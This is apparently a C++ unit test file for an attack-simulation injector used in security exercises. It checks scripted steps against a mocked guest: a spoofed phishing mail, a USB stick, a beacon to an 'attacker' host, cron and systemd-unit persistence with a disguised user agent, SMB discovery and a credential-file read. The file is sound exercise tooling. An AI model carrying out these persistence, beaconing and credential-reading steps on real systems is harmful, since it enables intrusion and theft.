// The verbs of the beginning against a guest that answers as a test says.
#include "injector/actions/act.h"

#include "scenario-dsl/attack/traces.h"
#include "scenario-dsl/model/step_names.h"
#include "scenario-dsl/source/digest.h"
#include "tests/support/first_light.h"
#include "tests/support/temp_directory.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <functional>

namespace enshu::inject {
namespace {

using Argv = std::vector<std::string>;

/// Every host is this one; it keeps what it was asked.
class Scripted : public GuestChannel {
  public:
    RunResult run(const Argv &argv, const std::string &input, std::chrono::milliseconds) override {
        ran.push_back(argv);
        inputs.push_back(input);
        return answer(argv);
    }
    std::string read(const std::string &path, std::chrono::milliseconds) override {
        return files.at(path);
    }
    void write(const std::string &path, const std::string &content,
               std::chrono::milliseconds) override {
        files[path] = content;
    }
    /// The last call that has `word` in it, or in the script that it was handed.
    Argv last_with(const std::string &word) const {
        const auto has = [&](const std::string &one) {
            return one.find(word) != std::string::npos;
        };
        for (auto i = ran.size(); i-- > 0;)
            if (has(inputs[i]) || std::ranges::any_of(ran[i], has))
                return ran[i];
        return {};
    }
    void forget() {
        ran.clear();
        inputs.clear();
    }

    std::vector<Argv> ran;
    std::vector<std::string> inputs; ///< of each of them
    std::map<std::string, std::string> files;
    std::function<RunResult(const Argv &)> answer = [](const Argv &argv) {
        return RunResult{0, argv[0] == "/usr/bin/date" ? "1795230000\n" : "", "", false};
    };
};

class EntryActions : public testing::Test {
  protected:
    EntryActions() {
        scenario_.organization.hosts[1].services.push_back({dsl::ServiceKind::Dns});
        scenario_.organization.hosts[1].services.push_back({dsl::ServiceKind::Smb});
    }
    const dsl::Step &add(const char *id, dsl::Verb verb) {
        dsl::Step step;
        step.id = id;
        step.verb = std::move(verb);
        scenario_.attack.push_back(std::move(step));
        return scenario_.attack.back();
    }
    ActContext context(const std::string &step) {
        return {scenario_,
                *scenario_.find_step(step),
                1,
                [this](const std::string &) -> GuestChannel & { return guest_; },
                {},
                dsl::Milliseconds(30),
                dsl::Milliseconds(1)};
    }
    nlohmann::json play(const std::string &step) { return perform(context(step)); }
    void takes_back(const std::string &step) { undo(context(step)); }
    std::string failure(const std::string &step) {
        try {
            play(step);
        } catch (const ActFailed &error) {
            return error.what();
        }
        return "";
    }
    void answers(const std::string &output) {
        guest_.answer = [output](const Argv &argv) {
            return RunResult{0, argv[0] == "/usr/bin/date" ? "1795230000\n" : output, "", false};
        };
    }
    bool leaves(const std::string &step, const std::string &where, const std::string &pattern) {
        const dsl::Network network{scenario_.organization};
        const dsl::Index steps{scenario_.attack};
        for (const dsl::Trace &trace : dsl::traces_of(*scenario_.find_step(step), steps, network))
            if (trace.where == where && trace.pattern == pattern)
                return true;
        return false;
    }
    dsl::SendMail &phish() { return std::get<dsl::SendMail>(scenario_.attack[0].verb); }
    dsl::Beacon &beacon() { return std::get<dsl::Beacon>(scenario_.attack[2].verb); }
    static dsl::Beacon by_names() {
        return {.on = "pc-suzuki",
                .to = "attacker",
                .via = {},
                .path = {},
                .domain = "news.example",
                .every = {std::chrono::seconds(4), std::chrono::seconds(7)}};
    }

    test::TempDirectory directory_;
    dsl::Scenario scenario_ = test::first_light(directory_.path());
    Scripted guest_;
};

// ---- send-mail, open-attachment

TEST_F(EntryActions, AMailIsSentInTheNameOfItsEnvelope) {
    phish().envelope = "bounce@bulk.example";
    guest_.answer = [](const Argv &argv) {
        return RunResult{0, argv[0] == "/usr/bin/grep" ? "/found\n" : "1795230000\n", "", false};
    };
    const auto evidence = play("phish");
    const Argv curl = guest_.last_with("/usr/bin/curl");
    EXPECT_EQ(curl[6], "smtp://203.0.113.25:25/bulk.example");
    EXPECT_EQ(curl[8], "bounce@bulk.example");
    EXPECT_EQ(evidence["envelope"], "bounce@bulk.example");
    EXPECT_NE(guest_.files["/run/enshu/outgoing-phish.eml"].find("From: <taro@supplier.example>"),
              std::string::npos);
    EXPECT_TRUE(leaves("phish", "/var/log/mail.log", "from=<bounce@bulk.example>"));
    EXPECT_TRUE(
        leaves("phish", "/home/suzuki/Maildir", "from bulk.example (unknown [198.51.100.66])"));
    EXPECT_TRUE(leaves("phish", "/home/suzuki/Maildir", "Return-Path: <bounce@bulk.example>"));
}

TEST_F(EntryActions, ALinkStandsReadableAtTheEndOfTheText) {
    phish().attachment.clear();
    phish().link = "/docs/estimate.html";
    guest_.answer = [](const Argv &argv) {
        return RunResult{0, argv[0] == "/usr/bin/grep" ? "/found\n" : "1795230000\n", "", false};
    };
    EXPECT_EQ(play("phish")["link"], "http://198.51.100.66/docs/estimate.html");
    EXPECT_TRUE(guest_.files["/run/enshu/outgoing-phish.eml"].ends_with(
        "鈴木様\r\nhttp://198.51.100.66/docs/estimate.html\r\n\r\n"));
    EXPECT_TRUE(leaves("phish", "/home/suzuki/Maildir", "198.51.100.66/docs/estimate.html"));
}

TEST_F(EntryActions, ALinkIsFollowedAndWhatItGaveIsSaved) {
    phish().attachment.clear();
    phish().link = "/docs/estimate.html";
    answers(R"({"file": "/home/suzuki/Downloads/estimate.html", "sha256": "ab", "bytes": 2})");
    EXPECT_EQ(play("open")["url"], "http://198.51.100.66/docs/estimate.html");
    const Argv ran = guest_.ran.back();
    EXPECT_EQ(ran[0], "/usr/lib/enshu/open-attachment");
    EXPECT_EQ(Argv(ran.end() - 2, ran.end()),
              (Argv{"--link", "http://198.51.100.66/docs/estimate.html"}));
    takes_back("open");
    EXPECT_EQ(guest_.ran.back().back(), "/home/suzuki/Downloads/estimate.html");
    EXPECT_TRUE(
        leaves("open", "/var/log/squid/access.log", "GET http://198.51.100.66/docs/estimate.html"));
}

TEST_F(EntryActions, ThereHasToBeSomethingToOpen) {
    phish().attachment.clear();
    EXPECT_NE(failure("open").find("neither an attachment nor a link"), std::string::npos);
    std::get<dsl::OpenAttachment>(scenario_.attack[1].verb).mail = "beacon";
    EXPECT_NE(failure("open").find("not a step that sends a mail or brings a stick"),
              std::string::npos);
}

// ---- usb-insert

TEST_F(EntryActions, AStickIsPutInAndItsFileIsTheOneThatWasToBeOnIt) {
    add("stick", dsl::UsbInsert{"pc-suzuki", "SUPPLIER", directory_.path() / "estimate.txt"});
    const std::string sha256 = dsl::sha256_hex("お見積書 an estimate\n");
    answers(R"({"device": "/dev/sda", "sha256": ")" + sha256 + "\"}");
    const auto evidence = play("stick");
    EXPECT_EQ(evidence["file"], "/media/suzuki/SUPPLIER/estimate.txt");
    EXPECT_EQ(evidence["device"], "/dev/sda");
    EXPECT_NE(guest_.files["/run/enshu/stick"].find("お見積書"), std::string::npos);
    EXPECT_TRUE(leaves("stick", "/var/log/kern.log", "Attached SCSI removable disk"));
    takes_back("stick");
    EXPECT_NE(guest_.last_with("systemd-umount").back().find("/media/suzuki/SUPPLIER"),
              std::string::npos);
    answers(R"({"device": "/dev/sda", "sha256": "00"})");
    EXPECT_NE(failure("stick").find("is not the file that was to be on the stick"),
              std::string::npos);
}

TEST_F(EntryActions, TheFileOnAStickIsOpenedWhereItLies) {
    add("stick", dsl::UsbInsert{"pc-suzuki", "SUPPLIER", directory_.path() / "estimate.txt"});
    add("open-stick", dsl::OpenAttachment{"pc-suzuki", "stick"});
    answers(R"({"file": "/media/suzuki/SUPPLIER/estimate.txt", "sha256": ")" +
            dsl::sha256_hex("お見積書 an estimate\n") + "\"}");
    play("open-stick");
    EXPECT_EQ(guest_.ran.back(), (Argv{"/usr/lib/enshu/open-attachment", "--file",
                                       "/media/suzuki/SUPPLIER/estimate.txt"}));
    const auto calls = guest_.ran.size();
    takes_back("open-stick");
    EXPECT_EQ(guest_.ran.size(), calls) << "the stick is taken out by its own step";
}

// ---- beacon, persist

TEST_F(EntryActions, ABeaconThatAsksForNamesIsToldWhereTheNameServerIs) {
    add("names", by_names());
    const auto evidence = play("names");
    EXPECT_EQ(evidence["domain"], "news.example");
    EXPECT_EQ(evidence["name_server"], "203.0.113.25:53");
    const Argv ran = guest_.ran.back();
    EXPECT_EQ(Argv(ran.begin() + 5, ran.end()),
              (Argv{"/usr/lib/enshu/actor", "beacon", "--domain", "news.example", "--name-server",
                    "203.0.113.25:53", "--min-ms", "4000", "--max-ms", "7000", "--key",
                    "/var/lib/enshu/lent/" + dsl::unit_of("names")}));
    EXPECT_TRUE(leaves("names", "/var/log/unbound/queries.log", ".news.example. TXT"));
}

TEST_F(EntryActions, ACrontabLineCallsTheSameBeaconAndIsTakenAwayAgain) {
    beacon().path = "/a?b=100%25";
    add("stay", dsl::Persist{"pc-suzuki", "beacon", dsl::Persistence::Cron});
    const std::string line = play("stay")["persists"];
    EXPECT_EQ(line, "* * * * * /usr/lib/enshu/actor beacon --url "
                    "'http://198.51.100.66/a?b=100\\%25' --min-ms 4000 --max-ms 7000 --agent "
                    "'Mozilla/4.0 (compatible; UpdateAgent 1.3)' --proxy 203.0.113.25:3128 "
                    "--key /var/lib/enshu/lent/" +
                        dsl::unit_of("beacon") + " >/dev/null 2>&1");
    const Argv ran = guest_.ran.back();
    EXPECT_EQ(Argv(ran.begin(), ran.begin() + 2), (Argv{"/usr/bin/setpriv", "--reuid=suzuki"}))
        << "as somebody without root would";
    EXPECT_EQ(ran.back(), line);
    guest_.forget();
    takes_back("stay");
    EXPECT_EQ(guest_.last_with("crontab -r").back(), line);
    EXPECT_EQ(guest_.last_with("/usr/bin/pkill").back(),
              "^/usr/lib/enshu/actor beacon --url http://198\\.51\\.100\\.66/a\\?b=100%25");
}

TEST_F(EntryActions, AUnitOfTheUserCallsTheSameBeacon) {
    add("stay", dsl::Persist{"pc-suzuki", "beacon", dsl::Persistence::Unit});
    const std::string file = play("stay")["persists"];
    EXPECT_EQ(file, "/home/suzuki/.config/systemd/user/" + dsl::staying_unit("beacon"));
    EXPECT_TRUE(leaves("stay", file, dsl::staying_unit("beacon")));
    const Argv added = guest_.last_with("ExecStart=");
    EXPECT_NE(guest_.last_with("\"--agent\" \"Mozilla/4.0 (compatible; UpdateAgent 1.3)\"").size(),
              0U);
    takes_back("stay");
    EXPECT_NE(guest_.last_with("rm -f").back().find("session-helper"), std::string::npos);
}

TEST_F(EntryActions, ABeaconThatPersistsIsStartedAndStopsWithWhatStartsIt) {
    beacon().persist = dsl::Persistence::Cron;
    EXPECT_TRUE(play("beacon")["persists"].get<std::string>().starts_with("* * * * * "));
    EXPECT_TRUE(
        leaves("beacon", "/var/spool/cron/crontabs/suzuki", "http://198.51.100.66/news/update"));
    guest_.forget();
    takes_back("beacon");
    ASSERT_EQ(guest_.ran.size(), 4U);
    EXPECT_EQ(guest_.ran[3],
              (Argv{"/usr/bin/rm", "-f", "--", "/var/lib/enshu/lent/" + dsl::unit_of("beacon")}));
    EXPECT_EQ(guest_.ran[2][0], "/usr/bin/systemctl")
        << "after the line, or what starts it again would have started it again";
}

TEST_F(EntryActions, OnlyABeaconOfThatMachineCanPersist) {
    add("stay", dsl::Persist{"gate", "beacon", dsl::Persistence::Cron});
    EXPECT_NE(failure("stay").find("is not a beacon on `gate`"), std::string::npos);
    add("stay-2", dsl::Persist{"pc-suzuki", "open", dsl::Persistence::Cron});
    EXPECT_NE(failure("stay-2").find("is not a beacon"), std::string::npos);
}

// ---- discovery, read-credential

TEST_F(EntryActions, SomebodyLooksRoundAsTheUser) {
    add("look", dsl::Discovery{"pc-suzuki", "gate"});
    answers("{\"bytes\": 1234, \"shares\": 1}\n");
    const auto evidence = play("look");
    EXPECT_EQ(evidence["bytes"], 1234);
    EXPECT_EQ(evidence["shares"], 1);
    const Argv ran = guest_.ran.back();
    EXPECT_EQ(Argv(ran.begin(), ran.begin() + 2), (Argv{"/usr/bin/setpriv", "--reuid=suzuki"}));
    EXPECT_EQ(Argv(ran.end() - 2, ran.end()), (Argv{"203.0.113.25", "suzuki"}));
    EXPECT_TRUE(leaves("look", "/home/suzuki/.bash_history", "smbclient -L 203.0.113.25"));
    answers("a long story\n");
    EXPECT_NE(failure("look").find("did not print the one line"), std::string::npos);
}

TEST_F(EntryActions, ACredentialIsReadAndStaysWhereItIs) {
    add("read", dsl::ReadCredential{"pc-suzuki", "/home/suzuki/memo.txt"});
    answers("{\"bytes\": 20, \"read_at\": 1795230001}\n");
    EXPECT_EQ(play("read"),
              (nlohmann::json{
                  {"file", "/home/suzuki/memo.txt"}, {"bytes", 20}, {"read_at", 1795230001}}));
    EXPECT_EQ(guest_.ran.back().back(), "/home/suzuki/memo.txt");
    EXPECT_TRUE(leaves("read", "/home/suzuki/.bash_history", "cat /home/suzuki/memo.txt"));
    guest_.answer = [](const Argv &) {
        return RunResult{4, "", "/home/suzuki/memo.txt is no file that can be read\n", false};
    };
    EXPECT_EQ(failure("read"), "`pc-suzuki`: /home/suzuki/memo.txt is no file that can be read");
}

// ---- all of them

TEST_F(EntryActions, AScriptBeginsInItsHomeAndIsInNoListOfProcesses) {
    add("stick", dsl::UsbInsert{"pc-suzuki", "SUPPLIER", directory_.path() / "estimate.txt"});
    add("stay", dsl::Persist{"pc-suzuki", "beacon", dsl::Persistence::Unit});
    add("stay-by-cron", dsl::Persist{"pc-suzuki", "beacon", dsl::Persistence::Cron});
    add("look", dsl::Discovery{"pc-suzuki", "gate"});
    add("read", dsl::ReadCredential{"pc-suzuki", "/home/suzuki/memo.txt"});
    for (const char *step : {"stick", "stay", "stay-by-cron", "look", "read"}) {
        (void)failure(step);
        takes_back(step);
    }
    int scripts = 0;
    for (std::size_t i = 0; i < guest_.ran.size(); ++i) {
        const Argv &ran = guest_.ran[i];
        EXPECT_EQ(std::ranges::count(ran, "-c"), 0) << guest_.inputs[i];
        if (std::ranges::count(ran, "/bin/sh") == 0)
            continue;
        const std::string home = ran[0] == "/bin/sh" ? "/root" : "/home/suzuki";
        EXPECT_TRUE(guest_.inputs[i].starts_with("cd " + home + " || exit\n"));
        EXPECT_TRUE(guest_.inputs[i].ends_with("\n} </dev/null\n"));
        ++scripts;
    }
    EXPECT_EQ(scripts, 10);
}

} // namespace
} // namespace enshu::inject
